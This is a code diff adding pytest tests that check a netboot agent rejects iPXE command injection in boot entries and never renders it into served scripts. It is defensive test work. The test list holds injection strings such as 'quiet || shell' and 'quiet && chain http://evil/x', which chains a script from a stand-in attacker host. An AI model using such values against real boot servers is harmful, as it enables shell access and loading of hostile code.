@@ -8,7 +8,7 @@ import pytest
 
 from bc_site_agent.config import load_config
 from bc_site_agent.drivers import BmcCredentials
-from bc_site_agent.netboot import LOCAL_BOOT_SCRIPT, BootEntries, discovery_cmdline, entry_script
+from bc_site_agent.netboot import LOCAL_BOOT_SCRIPT, BootEntries, BootEntry, discovery_cmdline, entry_script
 from better_compute.core.errors import BcError, ErrorCode
 from better_compute.metal.commands import COMMAND_KINDS
 
@@ -107,6 +107,67 @@ def test_boot_entries_refuse_line_breaks_in_the_command_line(tmp_path: Path) -> 
     with pytest.raises(BcError) as exc:
         entries.set({"mac": "52:54:00:aa:bb:01", "kernel": "http://h/k", "cmdline": "a\nshell"})
     assert exc.value.path == "cmdline"
+
+
+_IPXE_TRICKS = (
+    "quiet || shell",
+    "quiet && chain http://evil/x",
+    "root=${root-path}",
+    "a ; shell",
+    "a #comment",
+    "a\x1b[2Jb",
+    "a\x00b",
+    "a\tb",
+)
+
+
+@pytest.mark.parametrize("cmdline", _IPXE_TRICKS)
+def test_ipxe_control_sequences_in_an_entry_are_refused_when_it_is_set(tmp_path: Path, cmdline: str) -> None:
+    """Issue 23 L7: ``||``, ``&&``, ``${…}`` (and ``;``, ``#``, control characters) in a kernel line
+    were served verbatim into the iPXE script, where iPXE runs or expands them."""
+    entries = BootEntries(tmp_path / "netboot")
+    mac = "52:54:00:aa:bb:03"
+    with pytest.raises(BcError) as exc:
+        entries.set({"mac": mac, "kernel": "http://h/k", "cmdline": cmdline})
+    assert (exc.value.code, exc.value.path) == (ErrorCode.INVALID_INPUT, "cmdline")
+    assert entries.get(mac) is None
+    # the command's payload is refused at enqueue already (the kind's manifest)
+    payload = COMMAND_KINDS["netboot.setEntry"].payload
+    assert refusal(lambda: payload.validate({"mac": mac, "kernel": "http://h/k", "cmdline": cmdline})) == (
+        ErrorCode.INVALID_INPUT,
+        "cmdline",
+    )
+    for key in ("kernel", "initrd"):
+        url = "http://h/k?x=" + cmdline
+        with pytest.raises(BcError) as exc:
+            entries.set({"mac": mac, "kernel": "http://h/k", key: url})
+        assert (exc.value.code, exc.value.path) == (ErrorCode.INVALID_INPUT, key)
+        assert refusal(lambda key=key, url=url: payload.validate({"mac": mac, key: url})) == (
+            ErrorCode.INVALID_INPUT,
+            key,
+        )
+    assert payload.validate({"mac": mac, "kernel": "http://h/k", "cmdline": "console=ttyS0,115200 a=b&c"})
+
+
+@pytest.mark.parametrize("cmdline", _IPXE_TRICKS)
+def test_the_ipxe_renderer_never_emits_a_control_sequence(tmp_path: Path, cmdline: str) -> None:
+    """An entry written before the check (an older agent's file) or a token that slipped through
+    is not served: the machine gets a script that boots locally, with nothing of the value."""
+    for entry in (
+        BootEntry(mac="52:54:00:aa:bb:04", kernel="http://h/k", cmdline=cmdline),
+        BootEntry(mac="52:54:00:aa:bb:04", kernel="http://h/k?" + cmdline, initrd="http://h/i"),
+        BootEntry(mac="52:54:00:aa:bb:04", kernel="http://h/k", join_token="tok" + cmdline),
+    ):
+        script = entry_script(entry)
+        assert cmdline not in script
+        assert not any(trick in script for trick in ("||", "&&", "${", " ; ", "#c", "\x1b", "\x00"))
+        assert script.startswith("#!ipxe\n")
+        assert "exit" in script
+        assert "kernel" not in script
+    ok = entry_script(
+        BootEntry(mac="52:54:00:aa:bb:04", kernel="http://h/k", cmdline="a=b c", join_token="t")
+    )
+    assert "kernel http://h/k a=b c bcd.token=t\n" in ok
 
 
 def test_the_deploy_example_config_loads() -> None:
